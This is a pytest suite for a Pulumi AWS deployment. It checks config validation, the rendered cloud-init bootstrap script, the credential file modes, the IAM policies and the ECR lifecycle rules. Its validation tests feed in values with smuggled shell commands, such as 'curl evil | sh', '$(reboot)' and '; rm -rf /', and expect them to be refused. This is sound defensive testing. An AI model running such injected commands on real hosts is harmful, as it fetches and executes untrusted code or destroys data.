"""Config validation and pure helpers, in-process (no Pulumi runtime needed)."""

from __future__ import annotations

import ast
import contextlib
import fnmatch
import io
import json
import os
import re
import runpy
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import require_executable
from infra_harness import REPO_ROOT

from infra_pulumi.compute import BOOTSTRAP_PATH, ToolPins, render_bootstrap_script, render_user_data
from infra_pulumi.config import UCI_DATASET_URL, InfraConfig, check_known_keys, parse_port_range
from infra_pulumi.iam import host_policy_document
from infra_pulumi.registry import DEPLOYED_TAG_PREFIX, keep_last_policy
from infra_pulumi.secrets import SECRET_NAMES, STATUS_NAME

pytestmark = pytest.mark.infra

VALID: dict[str, Any] = {
    "owner": "alice",
    "region": "eu-west-1",
    "allowed_cidrs": ("203.0.113.10/32",),
    "repo_url": "https://github.com/example-org/healthpredict.git",
}


def test_defaults_are_the_documented_safe_ones() -> None:
    cfg = InfraConfig(**VALID)
    assert cfg.instance_type == "t3.xlarge" and cfg.root_volume_gb == 60
    assert cfg.ssh_cidrs == () and cfg.allow_unsafe_ingress is False and cfg.force_destroy is False
    assert cfg.ecr_keep_last == 20 and cfg.noncurrent_version_days == 30
    assert cfg.api_ports == (8000, 8000)
    assert cfg.subnet_cidrs == ("10.42.0.0/20", "10.42.16.0/20")
    with pytest.raises(AttributeError):
        cfg.owner = "mallory"  # type: ignore[misc]


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"owner": ""}, "healthpredict:owner is required"),
        ({"region": ""}, "aws:region is required"),
        ({"region": "eu-west-1; curl evil | sh"}, "aws:region: 'eu-west-1; curl evil | sh' is not an AWS region"),
        ({"region": "eu-west-1\nAWS_PROFILE=x"}, "aws:region"),
        ({"region": "$(reboot)"}, "aws:region"),
        ({"region": "EU-WEST-1"}, "aws:region"),
        ({"allowed_cidrs": ()}, "healthpredict:allowedCidrs is required"),
        (
            {"allowed_cidrs": ("10.0.0.1/24",)},
            "healthpredict:allowedCidrs: '10.0.0.1/24' is not a valid CIDR",
        ),
        ({"allowed_cidrs": ("everyone",)}, "healthpredict:allowedCidrs: 'everyone'"),
        ({"allowed_cidrs": ("0.0.0.0/0",)}, "healthpredict:allowedCidrs contains 0.0.0.0/0"),
        ({"ssh_cidrs": ("::/0",), "allow_unsafe_ingress": True}, "healthpredict:sshCidrs contains ::/0"),
        ({"ssh_cidrs": ("300.1.1.1/32",)}, "healthpredict:sshCidrs: '300.1.1.1/32'"),
        ({"vpc_cidr": "10.0.0.0/8"}, "healthpredict:vpcCidr"),
        ({"az_count": 0}, "healthpredict:azCount"),
        ({"instance_type": "t4g.xlarge"}, "arm64"),
        ({"instance_type": "huge"}, "healthpredict:instanceType"),
        ({"root_volume_gb": 8}, "healthpredict:rootVolumeGb"),
        ({"kms_key_arn": "alias/mine"}, "healthpredict:kmsKeyArn"),
        ({"ecr_keep_last": 0}, "healthpredict:ecrKeepLast"),
        ({"noncurrent_version_days": 0}, "healthpredict:noncurrentVersionDays"),
        ({"repo_url": ""}, "healthpredict:repoUrl is required"),
        ({"repo_url": "file:///home/me/healthpredict"}, "healthpredict:repoUrl"),
        ({"repo_url": "https://github.com/x/y.git; rm -rf /"}, "healthpredict:repoUrl"),
        ({"repo_ref": "main; curl evil | sh"}, "healthpredict:repoRef"),
        ({"repo_ref": "../../etc"}, "healthpredict:repoRef"),
        ({"api_ports": (70000, 70000)}, "healthpredict:apiPorts"),
        ({"api_ports": (4000, 4300)}, "healthpredict:apiPorts: 4000-4300 includes 4200 (Prefect)"),
        ({"api_ports": (5000, 5000)}, "healthpredict:apiPorts: 5000-5000 includes 5000 (MLflow)"),
        ({"api_ports": (1, 65535)}, "healthpredict:apiPorts: 1-65535 includes 5000 (MLflow)"),
        ({"api_ports": (20, 30)}, "includes 22 (SSH)"),
        ({"compose_file": "../compose.yaml"}, "healthpredict:composeFile"),
        ({"compose_file": "/etc/compose.yaml"}, "healthpredict:composeFile"),
        ({"compose_file": "docker-compose.yml:/etc/x.yml"}, "healthpredict:composeFile"),
        ({"compose_file": "docker-compose.yml::"}, "healthpredict:composeFile"),
    ],
)
def test_invalid_or_unsafe_config_is_refused_naming_the_key(override: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError) as info:
        InfraConfig(**{**VALID, **override})
    assert message in str(info.value)


def test_unsafe_override_allows_world_services_but_not_ssh() -> None:
    cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("0.0.0.0/0", "::/0"), "allow_unsafe_ingress": True})
    assert cfg.ipv4_allowed == ("0.0.0.0/0",) and cfg.ipv6_allowed == ("::/0",)
    with pytest.raises(ValueError, match="never opened to a whole range, whatever minIngressPrefix and allowUnsafe"):
        replace(cfg, ssh_cidrs=("0.0.0.0/0",))


@pytest.mark.parametrize("region", ["eu-west-1", "us-east-1", "ap-southeast-4", "us-gov-west-1", "us-isob-east-1",
                                    "il-central-1", "cn-northwest-1"])  # fmt: skip
def test_region_names_pass(region: str) -> None:
    assert InfraConfig(**{**VALID, "region": region}).region == region


@pytest.mark.parametrize(
    ("relaxed", "ssh_cidr"),
    [
        ({"min_ingress_prefix": 8}, "198.51.0.0/16"),
        ({"min_ingress_prefix": 8}, "198.51.100.0/23"),
        ({"min_ingress_prefix_v6": 16}, "2001:db8::/32"),
        ({"min_ingress_prefix": 8, "allow_unsafe_ingress": True}, "10.0.0.0/8"),
    ],
)
def test_relaxing_min_ingress_prefix_never_relaxes_ssh(relaxed: dict[str, Any], ssh_cidr: str) -> None:
    """minIngressPrefix widens what allowedCidrs accepts for the API; SSH keeps its own /24 (IPv6 /48)."""
    wide_api = "198.51.0.0/16" if ":" not in ssh_cidr else "2001:db8::/32"
    cfg = InfraConfig(**{**VALID, **relaxed, "allowed_cidrs": (wide_api,)})
    assert cfg.allowed_cidrs == (wide_api,)
    with pytest.raises(ValueError, match=rf"healthpredict:sshCidrs contains {ssh_cidr}, wider than /(24|48)"):
        replace(cfg, ssh_cidrs=(ssh_cidr,))
    narrow = "198.51.100.0/24" if ":" not in ssh_cidr else "2001:db8:1::/48"
    assert replace(cfg, ssh_cidrs=(narrow,)).ssh_cidrs == (narrow,)


def test_tightening_min_ingress_prefix_tightens_ssh_too() -> None:
    with pytest.raises(ValueError, match=r"healthpredict:sshCidrs contains 198.51.100.0/24, wider than /28"):
        InfraConfig(**{**VALID, "min_ingress_prefix": 28, "ssh_cidrs": ("198.51.100.0/24",)})


@pytest.mark.parametrize(
    ("field", "cidr"),
    [
        ("allowed_cidrs", "0.0.0.0/1"),  # half the internet is as open as all of it
        ("allowed_cidrs", "128.0.0.0/1"),
        ("allowed_cidrs", "198.51.0.0/16"),
        ("allowed_cidrs", "2001:db8::/32"),
        ("ssh_cidrs", "198.51.100.0/23"),
    ],
)
def test_ranges_wider_than_the_minimum_prefix_are_refused(field: str, cidr: str) -> None:
    key = "allowedCidrs" if field == "allowed_cidrs" else "sshCidrs"
    with pytest.raises(ValueError, match=rf"healthpredict:{key} contains .*wider than"):
        InfraConfig(**{**VALID, field: (cidr,)})


def test_minimum_prefix_is_configurable_and_bounded() -> None:
    cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("198.51.0.0/16",), "min_ingress_prefix": 16})
    assert cfg.ipv4_allowed == ("198.51.0.0/16",)
    with pytest.raises(ValueError, match="healthpredict:minIngressPrefix must be in 8-32"):
        InfraConfig(**{**VALID, "min_ingress_prefix": 0})


@pytest.mark.parametrize(("raw", "expected"), [("8000", (8000, 8000)), ("30000-32767", (30000, 32767))])
def test_port_ranges_parse(raw: str, expected: tuple[int, int]) -> None:
    assert parse_port_range("apiPorts", raw) == expected


@pytest.mark.parametrize("raw", ["", "http", "9000-8000", "0", "1-70000"])
def test_bad_port_ranges_are_refused(raw: str) -> None:
    with pytest.raises(ValueError, match="healthpredict:apiPorts"):
        parse_port_range("apiPorts", raw)


PINS = ToolPins(kubectl_version="v1.35.0", kubectl_sha256="a" * 64, minikube_version="v1.38.1",
                minikube_sha256="b" * 64)  # fmt: skip


USER_DATA_VALUES: dict[str, Any] = {
    "repo_url": "https://github.com/example-org/healthpredict.git",
    "repo_ref": "release/1.0",
    "bucket_name": "bucket with space",
    "ecr_repository_url": "1.dkr.ecr.eu-west-1.amazonaws.com/repo",
    "region": "eu-west-1",
    "secrets_path": "/healthpredict/dev",
    "status_parameter": "/healthpredict/dev/bootstrap-status",
    "tools": PINS,
    "raw_data_uri": UCI_DATASET_URL,
}


def render(**overrides: Any) -> str:
    return render_user_data(**{**USER_DATA_VALUES, **overrides})


def bootstrap_script(user_data: str) -> str:
    """The script the cloud-config writes to the host (parsed as cloud-init parses it)."""
    config = yaml.safe_load(user_data)
    assert user_data.startswith("#cloud-config\n")
    (written,) = config["write_files"]
    assert written["path"] == BOOTSTRAP_PATH and written["permissions"] == "0700" and written["owner"] == "root:root"
    assert config["runcmd"] == [[BOOTSTRAP_PATH]]
    return str(written["content"])


def test_user_data_carries_the_bootstrap_script_byte_for_byte() -> None:
    script = bootstrap_script(render())
    assert script == render_bootstrap_script(**USER_DATA_VALUES)
    assert script.startswith("#!/bin/bash\n")


def test_user_data_quotes_interpolated_values() -> None:
    script = render()
    assert "HEALTHPREDICT_BUCKET='bucket with space'" in script
    assert "HEALTHPREDICT_ARTIFACT_URI='s3://bucket with space/data'" in script
    assert "fetch --tags origin release/1.0" in script
    assert "STATUS_PARAMETER=/healthpredict/dev/bootstrap-status" in script


def test_user_data_checks_every_download_against_its_pin() -> None:
    script = render()
    assert "https://dl.k8s.io/release/v1.35.0/bin/linux/amd64/kubectl" in script
    assert "https://github.com/kubernetes/minikube/releases/download/v1.38.1/minikube-linux-amd64" in script
    assert "sha256sum --check --strict" in script
    calls = [ln for ln in script.splitlines() if ln.lstrip().startswith(("a" * 64, "b" * 64))]
    assert [c.split()[0] for c in calls] == ["a" * 64, "b" * 64]  # each install_checked call carries its pin


def test_tool_pins_are_refused_unless_full_sha256() -> None:
    with pytest.raises(ValueError, match="healthpredict:kubectlSha256"):
        InfraConfig(**{**VALID, "kubectl_sha256": "abc"})


def test_rendered_user_data_passes_cloud_init_schema(tmp_path: Path) -> None:
    user_data = tmp_path / "user-data.yaml"
    user_data.write_text(render())
    exe = require_executable("cloud-init", "apt-get install cloud-init")
    proc = subprocess.run([exe, "schema", "--config-file", str(user_data)], capture_output=True, text=True,
                          timeout=120, check=False)  # fmt: skip
    assert proc.returncode == 0 and "Valid cloud-config" in proc.stdout, proc.stdout + proc.stderr


@pytest.mark.parametrize("raw_data_uri", [UCI_DATASET_URL, "s3://healthpredict-bucket-a1b2c3/raw/diabetic_data.csv"])
@pytest.mark.parametrize("tool", ["bash", "shellcheck"])
def test_rendered_user_data_is_valid_shell(tmp_path: Path, tool: str, raw_data_uri: str) -> None:
    script = tmp_path / "user-data.sh"
    script.write_text(bootstrap_script(render(bucket_name="healthpredict-bucket-a1b2c3", raw_data_uri=raw_data_uri)))
    exe = require_executable(tool, "apt-get install shellcheck" if tool == "shellcheck" else "")
    command = [exe, "-n", str(script)] if tool == "bash" else [exe, "-S", "warning", "-s", "bash", str(script)]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_user_data_writes_a_root_only_env_and_reports_its_status() -> None:
    script = render()
    env_block = script[script.index("umask 077") : script.index("umask 022")]
    assert "> .env.new" in env_block and "mv .env.new .env" in env_block
    assert "COMPOSE_FILE=docker-compose.yml:docker-compose.aws.yml" in env_block
    assert "trap 'report " in script and 'report "ready:' in script
    assert "http_put_response_hop_limit" not in script  # the hop limit is the instance's, see the program tests


def test_prefect_ui_and_mlflow_answer_through_the_tunnel() -> None:
    """Neither is published beyond the host: the browser reaches them at localhost through a tunnel, so the Prefect
    UI calls its API at localhost, and MLflow's allowed hosts (compose's default, not overridden) include the
    tunnel's localhost:5000 and the Minikube pods' host.minikube.internal:5000."""
    script = bootstrap_script(render())
    env_block = script[script.index("umask 077") : script.index("umask 022")]
    (line,) = [ln.strip() for ln in env_block.splitlines() if "PREFECT_UI_API_URL=" in ln]
    assert line == 'echo "PREFECT_UI_API_URL=http://localhost:4200/api"'
    assert "MLFLOW_ALLOWED_HOSTS" not in env_block and "169.254.169.254" not in script
    services = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]
    assert services["prefect-server"]["environment"]["PREFECT_UI_API_URL"].startswith("${PREFECT_UI_API_URL:-")
    assert [p for p in services["prefect-server"]["ports"] if p.endswith(":4200:4200")]
    default_hosts = re.fullmatch(
        r"\$\{MLFLOW_ALLOWED_HOSTS:-(.*)\}", services["mlflow"]["environment"]["MLFLOW_SERVER_ALLOWED_HOSTS"]
    )
    assert default_hosts and {"localhost:5000", "host.minikube.internal:5000"} <= set(default_hosts[1].split(","))


def run_env_block(tmp_path: Path, **overrides: Any) -> dict[str, str]:
    """The .env writer of the bootstrap, run by bash in ``tmp_path`` (the SSM reader replaced by a no-op python3)."""
    script = bootstrap_script(render(**overrides))
    env_block = script[script.index("umask 077") : script.index("umask 022")]
    (fake := tmp_path / "bin" / "python3").parent.mkdir()
    fake.write_text("#!/bin/bash\ncat > /dev/null\n")
    fake.chmod(0o755)
    env = {"PATH": f"{fake.parent}:/usr/bin:/bin"}
    proc = subprocess.run(["bash", "-euo", "pipefail", "-c", env_block], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=30, check=False)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    written = tmp_path / ".env"
    assert written.stat().st_mode & 0o777 == 0o600
    return dict(line.split("=", 1) for line in written.read_text().splitlines())


def test_env_file_holds_the_region_and_bucket_as_plain_values(tmp_path: Path) -> None:
    values = run_env_block(tmp_path, region="us-gov-west-1", bucket_name="healthpredict-bucket-a1b2c3")
    assert values["AWS_REGION"] == "us-gov-west-1"
    assert values["HEALTHPREDICT_BUCKET"] == "healthpredict-bucket-a1b2c3"
    assert values["BIND_ADDRESS"] == "0.0.0.0"


@pytest.mark.parametrize("region", ["eu-west-1; curl evil | sh", "eu-west-1\nBIND_ADDRESS=203.0.113.9", '$(reboot)"'])
def test_bootstrap_refuses_a_region_that_is_not_a_region_name(region: str) -> None:
    """The script is rendered only for a region name, whatever calls it: the value runs as root on the host."""
    with pytest.raises(ValueError, match="aws:region"):
        render(region=region)


def test_credentials_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    """The refresher the host's timer runs: the role's credentials, mode 0600, owned by the containers' user,
    in a folder only root and that user's group can enter, replaced atomically."""
    from infra_pulumi import compute

    uid, gid = (10001, 10001) if os.geteuid() == 0 else (os.getuid(), os.getgid())
    target = tmp_path / "run" / "aws" / "credentials"
    script = tmp_path / "refresh.py"
    script.write_text(compute._REFRESH_CREDENTIALS)
    env = {"PATH": os.environ["PATH"], "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secret",
           "AWS_SESSION_TOKEN": "token", "HOME": str(tmp_path)}  # fmt: skip
    for _ in range(2):  # a refresh replaces the file and keeps its mode and owner
        proc = subprocess.run([sys.executable, str(script), str(target), f"{uid}:{gid}"], env=env,
                              capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        info = target.stat()
        assert (info.st_mode & 0o777, info.st_uid, info.st_gid) == (0o600, uid, gid)
        folder = target.parent.stat()
        assert (folder.st_mode & 0o777, folder.st_gid) == (0o750, gid)
    assert "aws_secret_access_key = secret" in target.read_text()
    assert [p.name for p in target.parent.iterdir()] == ["credentials"]


def test_credentials_owner_is_the_user_of_the_containers_that_mount_them() -> None:
    """The file is readable by its owner alone, so that owner must be the user mlflow, init and the worker run as."""
    from infra_pulumi import compute

    script = render_bootstrap_script(**USER_DATA_VALUES)
    assert f"{compute.CREDENTIALS_DIR}/credentials \\\n  {compute.CREDENTIALS_OWNER}\n" in script
    aws = yaml.safe_load((REPO_ROOT / "docker-compose.aws.yml").read_text())["services"]
    main = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]
    mounting = {name for name, service in aws.items() if any(
        str(v).startswith(f"{compute.CREDENTIALS_DIR}:") for v in service.get("volumes", []))}  # fmt: skip
    assert mounting == {"mlflow", "init", "prefect-worker"}
    dockerfiles = {main[name]["build"].get("dockerfile", "Dockerfile") for name in mounting}
    for dockerfile in dockerfiles:
        users = re.findall(r"^USER (\S+)$", (REPO_ROOT / dockerfile).read_text(), flags=re.MULTILINE)
        assert users[-1] == compute.CREDENTIALS_OWNER, dockerfile


def test_env_writer_reads_every_secret_of_the_stack_path_decrypted(tmp_path: Path) -> None:
    """The .env writer the bootstrap runs, against moto's SSM: SecureStrings decrypted, one line per secret,
    nothing from other stacks, not the status parameter."""
    import boto3
    import moto

    from infra_pulumi import compute

    with moto.mock_aws():
        ssm = boto3.client("ssm", region_name="eu-west-1")
        for name in SECRET_NAMES:
            ssm.put_parameter(Name=f"/healthpredict/dev/{name}", Value=f"{name.lower()}-value", Type="SecureString")
        ssm.put_parameter(Name=f"/healthpredict/dev/{STATUS_NAME}", Value="pending", Type="String")
        ssm.put_parameter(Name="/healthpredict/prod/POSTGRES_PASSWORD", Value="other-stack", Type="SecureString")
        script = tmp_path / "write_env.py"
        script.write_text(compute._WRITE_ENV)
        out = io.StringIO()
        with contextlib.redirect_stdout(out), pytest.MonkeyPatch.context() as mp:
            mp.setattr(sys, "argv", [str(script), "/healthpredict/dev", "eu-west-1"])
            runpy.run_path(str(script), run_name="__main__")
    lines = sorted(out.getvalue().splitlines())
    assert lines == sorted(f"{name}={name.lower()}-value" for name in SECRET_NAMES)


def test_policy_helpers_produce_expected_documents() -> None:
    doc = json.loads(
        host_policy_document(
            "arn:aws:s3:::b", "arn:aws:ecr:r:1:repository/x",
            secrets_path_arn="arn:aws:ssm:r:1:parameter/healthpredict/dev",
            status_parameter_arn="arn:aws:ssm:r:1:parameter/healthpredict/dev/bootstrap-status",
        )
    )  # fmt: skip
    star = [s for s in doc["Statement"] if s["Resource"] == "*"]
    assert [s["Action"] for s in star] == [["ecr:GetAuthorizationToken"]]
    assert not any(s["Action"][0].startswith("kms:") for s in doc["Statement"])
    by_sid = {s["Sid"]: s for s in doc["Statement"]}
    assert by_sid["StackSecrets"]["Resource"] == [
        "arn:aws:ssm:r:1:parameter/healthpredict/dev", "arn:aws:ssm:r:1:parameter/healthpredict/dev/*"
    ]  # fmt: skip
    assert not [a for a in by_sid["StackSecrets"]["Action"] if not a.startswith("ssm:Get")]
    assert by_sid["BootstrapStatus"]["Action"] == ["ssm:PutParameter"]
    # The bootstrap fetches an s3:// rawDataUri of this bucket with the role (boto3 download_file: head + get).
    raw_object = "arn:aws:s3:::b/raw/dataset_diabetes.zip"
    readable = [s for s in doc["Statement"] if any(fnmatch.fnmatchcase(raw_object, r) for r in s["Resource"])]
    assert "s3:GetObject" in {action for s in readable for action in s["Action"]}


def test_lifecycle_policy_never_expires_deployed_images() -> None:
    rules = sorted(json.loads(keep_last_policy(7))["rules"], key=lambda r: r["rulePriority"])
    deployed, untagged, rest = rules
    assert deployed["selection"]["tagPrefixList"] == [DEPLOYED_TAG_PREFIX]
    assert deployed["selection"]["countNumber"] >= 10_000  # a count no repository reaches: nothing expires
    assert untagged["selection"] == {"tagStatus": "untagged", "countType": "sinceImagePushed", "countUnit": "days",
                                     "countNumber": 7}  # fmt: skip
    assert rest["selection"]["tagStatus"] == "any" and rest["selection"]["countNumber"] == 7
    assert rest["rulePriority"] == max(r["rulePriority"] for r in rules)  # ECR requires "any" last


def test_known_keys_pass_and_other_namespaces_are_ignored() -> None:
    check_known_keys({"healthpredict:owner", "healthpredict:apiPorts", "aws:region", "aws:profile"})
    with pytest.raises(ValueError, match=r"unknown config key healthpredict:sshCidr .*did you mean"):
        check_known_keys({"healthpredict:sshCidr"})


def test_program_imports_only_the_pulumi_sdks_and_the_standard_library() -> None:
    """The program runs in its own virtualenv (Pulumi.yaml: venv from requirements.txt), which holds the Pulumi
    SDKs and nothing of HealthPredict; an import of anything else would fail at `pulumi up`."""
    program = Path(__file__).resolve().parents[2] / "infra_pulumi"
    stdlib = set(sys.stdlib_module_names)
    allowed = {"pulumi", "pulumi_aws", "pulumi_random", "infra_pulumi"} | stdlib
    # The CrossGuard pack is its own Pulumi project (policy/PulumiPolicy.yaml and requirements.txt).
    pack_allowed = {"pulumi", "pulumi_policy", "rules"} | stdlib
    foreign = []
    for path in program.rglob("*.py"):
        if "venv" in path.parts:
            continue
        permitted = pack_allowed if path.parent.name == "policy" else allowed
        for node in ast.walk(ast.parse(path.read_text())):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                names = [node.module]
            foreign += [f"{path.name}: {n}" for n in names if n.split(".")[0] not in permitted]
    assert foreign == []
    import tomllib

    declared = tomllib.loads((program / "pyproject.toml").read_text())["project"]["dependencies"]
    requirements = [ln for ln in (program / "requirements.txt").read_text().splitlines() if ln and ln[0] not in "#-"]
    assert sorted(requirements) == sorted(declared)
